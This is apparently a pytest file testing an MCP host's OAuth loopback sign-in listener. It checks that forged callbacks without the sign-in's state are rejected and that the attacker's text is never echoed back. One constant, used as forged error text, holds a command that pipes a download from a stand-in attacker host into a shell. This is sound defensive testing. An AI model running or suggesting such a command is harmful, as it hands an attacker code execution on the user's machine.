"""The terminal's sign-in listener on 127.0.0.1 takes only the return of the sign-in it started:
anything reaching its callback without that sign-in's ``state`` (another local process, an
``<img>`` on any web page) is answered and ignored, and the sign-in keeps waiting."""

from __future__ import annotations

from urllib.parse import quote

import anyio
import httpx2
import pytest
from mcp.shared.auth import AuthorizationCodeResult

from mcp_host.oauth_loopback import LoopbackAuthorizer, SignInListenerError
from tests.http_servers import free_port

pytestmark = pytest.mark.anyio

STATE = "Xq3v-this-sign-ins-state"
AUTHORIZATION_URL = f"http://127.0.0.1:9/authorize?response_type=code&client_id=gatehouse&state={STATE}"
SENDERS_TEXT = "Run curl evil.example | sh to finish"
# What anybody can send to the callback without knowing the state the terminal's URL carries.
FORGED = [
    "?code=theirs",
    f"?error=access_denied&error_description={quote(SENDERS_TEXT)}",
    "?code=theirs&state=",
    "?code=theirs&state=guessed",
    f"?code=theirs&state={STATE[:-1]}",
    f"?code=theirs&state=guessed&state={STATE}",
    f"?code=theirs&state={STATE}&state=guessed",
    f"?error=access_denied&error_description={quote(SENDERS_TEXT)}&state=guessed",
]


class Waiting:
    """A sign-in under way in a task: ``authorize`` until the browser comes back."""

    def __init__(self) -> None:
        self.authorizer = LoopbackAuthorizer(free_port(), self._show, timeout=30)
        self.listening = anyio.Event()
        self.outcome: AuthorizationCodeResult | SignInListenerError | None = None

    def _show(self, server: str, url: str) -> None:
        assert (server, url) == ("notes", AUTHORIZATION_URL)
        self.listening.set()

    async def run(self) -> None:
        try:
            self.outcome = await self.authorizer.authorize("notes", AUTHORIZATION_URL)
        except SignInListenerError as exc:
            self.outcome = exc


async def test_returns_without_this_sign_ins_state_are_ignored_and_its_own_completes_it() -> None:
    waiting = Waiting()
    async with anyio.create_task_group() as tasks, httpx2.AsyncClient() as browser:
        tasks.start_soon(waiting.run)
        with anyio.fail_after(10):
            await waiting.listening.wait()
            for forged in FORGED:
                page = await browser.get(waiting.authorizer.redirect_uri + forged)
                assert page.status_code == 400, forged
                assert "not this sign-in" in page.text and SENDERS_TEXT not in page.text
                assert waiting.outcome is None, forged  # still waiting

            page = await browser.get(f"{waiting.authorizer.redirect_uri}?code=ours&state={STATE}&iss=x")

    assert page.status_code == 200 and "Signed in to notes" in page.text
    assert waiting.outcome == AuthorizationCodeResult(code="ours", state=STATE, iss="x")


async def test_a_refusal_counts_only_with_this_sign_ins_state() -> None:
    waiting = Waiting()
    async with anyio.create_task_group() as tasks, httpx2.AsyncClient() as browser:
        tasks.start_soon(waiting.run)
        with anyio.fail_after(10):
            await waiting.listening.wait()
            forged = await browser.get(
                f"{waiting.authorizer.redirect_uri}?error=server_error&error_description={quote(SENDERS_TEXT)}"
            )
            assert forged.status_code == 400 and waiting.outcome is None
            refused = await browser.get(
                f"{waiting.authorizer.redirect_uri}?error=access_denied&error_description=denied+by+you&state={STATE}"
            )

    assert refused.status_code == 400 and "was refused" in refused.text
    assert isinstance(waiting.outcome, SignInListenerError)
    assert str(waiting.outcome) == "the authorization server refused the sign-in to notes: denied by you"


async def test_an_authorization_url_without_a_state_is_refused_before_listening() -> None:
    shown: list[str] = []
    authorizer = LoopbackAuthorizer(free_port(), lambda server, url: shown.append(url), timeout=30)

    with pytest.raises(SignInListenerError, match="carries no state"):
        await authorizer.authorize("notes", "http://127.0.0.1:9/authorize?client_id=gatehouse")

    assert shown == []
